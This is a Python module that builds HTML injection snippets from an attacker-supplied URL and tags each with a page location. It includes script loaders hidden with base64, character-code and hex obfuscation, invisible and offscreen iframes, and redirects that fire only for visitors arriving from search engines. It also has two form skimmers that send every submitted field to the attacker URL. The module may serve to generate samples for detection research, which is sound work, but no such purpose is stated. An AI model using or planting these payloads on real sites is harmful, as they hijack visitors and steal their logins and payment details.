"""The injection styles of the `script` family: each turns an attacker URL into a snippet and
says where it goes (``head``, ``body-start`` or ``body-end``)."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Snippet:
    html: str
    where: str


def _plain(url: str, rng: random.Random) -> Snippet:
    kind = rng.choice(('<script src="{u}"></script>', '<script type="text/javascript" src="{u}"></script>'))
    return Snippet(kind.format(u=url), rng.choice(("head", "body-end")))


def _async(url: str, rng: random.Random) -> Snippet:
    return Snippet(f'<script async src="{url}"></script>', rng.choice(("head", "body-end")))


def _defer(url: str, rng: random.Random) -> Snippet:
    return Snippet(f'<script defer="defer" src="{url}"></script>', "head")


def _loader(url: str, rng: random.Random) -> Snippet:
    var = rng.choice(("s", "e", "js", "n"))
    code = (
        f"(function(){{var {var}=document.createElement('script');{var}.src='{url}';{var}.async=true;"
        f"(document.head||document.body).appendChild({var});}})();"
    )
    return Snippet(f"<script>{code}</script>", rng.choice(("head", "body-end")))


def _doc_write(url: str, rng: random.Random) -> Snippet:
    code = f"document.write('<scr'+'ipt src=\"{url}\"></scr'+'ipt>');"
    return Snippet(f'<script type="text/javascript">{code}</script>', rng.choice(("head", "body-start")))


def _atob(url: str, rng: random.Random) -> Snippet:
    b64 = base64.b64encode(url.encode()).decode()
    code = f"var _0x=document.createElement('script');_0x.src=atob('{b64}');document.head.appendChild(_0x);"
    return Snippet(f"<script>{code}</script>", "body-end")


def _char_codes(url: str, rng: random.Random) -> Snippet:
    codes = ",".join(str(ord(c)) for c in url)
    code = f"var u=String.fromCharCode({codes});var t=document.createElement('script');t.src=u;"
    return Snippet(f"<script>{code}document.body.appendChild(t);</script>", "body-end")


def _unescape(url: str, rng: random.Random) -> Snippet:
    tag = f'<script src="{url}"></script>'
    enc = "".join(f"%{ord(c):02X}" for c in tag)
    return Snippet(f"<script>document.write(unescape('{enc}'));</script>", rng.choice(("head", "body-end")))


def _hex(url: str, rng: random.Random) -> Snippet:
    enc = "".join(f"\\x{ord(c):02x}" for c in url)
    code = f"var k=document.createElement('\\x73\\x63\\x72\\x69\\x70\\x74');k['\\x73\\x72\\x63']='{enc}';"
    return Snippet(f"<script>{code}document.head.appendChild(k);</script>", "body-end")


def _iframe_hidden(url: str, rng: random.Random) -> Snippet:
    form = rng.choice(
        (
            '<iframe src="{u}" width="0" height="0" frameborder="0" style="display:none"></iframe>',
            '<iframe src="{u}" style="visibility:hidden;width:1px;height:1px" frameborder="0"></iframe>',
        )
    )
    return Snippet(form.format(u=url), rng.choice(("body-start", "body-end")))


def _iframe_offscreen(url: str, rng: random.Random) -> Snippet:
    style = f"position:absolute;left:-{rng.randint(2, 9)}000px;top:-{rng.randint(1, 5)}000px"
    return Snippet(f'<iframe src="{url}" width="1" height="1" style="{style}"></iframe>', "body-end")


def _meta_refresh(url: str, rng: random.Random) -> Snippet:
    delay = rng.choice((3, 5, 8, 10, 15))
    return Snippet(f'<meta http-equiv="refresh" content="{delay};url={url}">', "head")


def _referrer_redirect(url: str, rng: random.Random) -> Snippet:
    engines = rng.choice(("google|bing|yahoo", "google|bing|yandex|baidu", "google\\.|duckduckgo|bing"))
    code = f"if(/{engines}/i.test(document.referrer)){{window.location.replace('{url}');}}"
    return Snippet(f"<script>{code}</script>", rng.choice(("head", "body-start")))


def _timeout_redirect(url: str, rng: random.Random) -> Snippet:
    delay = rng.choice((2000, 4000, 7000, 12000))
    return Snippet(f"<script>setTimeout(function(){{location.href='{url}';}},{delay});</script>", "body-end")


def _skimmer(url: str, rng: random.Random) -> Snippet:
    code = (
        "document.addEventListener('submit',function(ev){var f=ev.target,d={};"
        "Array.prototype.forEach.call(f.querySelectorAll('input,select'),function(i){if(i.name)d[i.name]=i.value;});"
        f"navigator.sendBeacon('{url}',JSON.stringify(d));}},true);"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _skimmer_image(url: str, rng: random.Random) -> Snippet:
    code = (
        "window.addEventListener('load',function(){"
        "var b=document.querySelector('form [type=submit]');if(!b)return;"
        "b.addEventListener('click',function(){var q=[];"
        "document.querySelectorAll('input').forEach(function(i)"
        "{q.push(i.name+'='+encodeURIComponent(i.value));});"
        f"new Image().src='{url}?d='+btoa(q.join('&'));}});}});"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


STYLES: dict[str, Callable[[str, random.Random], Snippet]] = {
    "script-src": _plain,
    "script-async": _async,
    "script-defer": _defer,
    "inline-loader": _loader,
    "document-write": _doc_write,
    "encoded-atob": _atob,
    "encoded-fromcharcode": _char_codes,
    "encoded-unescape": _unescape,
    "encoded-hex": _hex,
    "iframe-hidden": _iframe_hidden,
    "iframe-offscreen": _iframe_offscreen,
    "meta-refresh": _meta_refresh,
    "redirect-referrer": _referrer_redirect,
    "redirect-timeout": _timeout_redirect,
    "skimmer-beacon": _skimmer,
    "skimmer-image": _skimmer_image,
}

# What kind of URL each style points at: a script, a page to show or send to, or a collector.
TARGET = {name: "script" for name in STYLES} | {
    "iframe-hidden": "page",
    "iframe-offscreen": "page",
    "meta-refresh": "page",
    "redirect-referrer": "page",
    "redirect-timeout": "page",
    "skimmer-beacon": "collect",
    "skimmer-image": "collect",
}
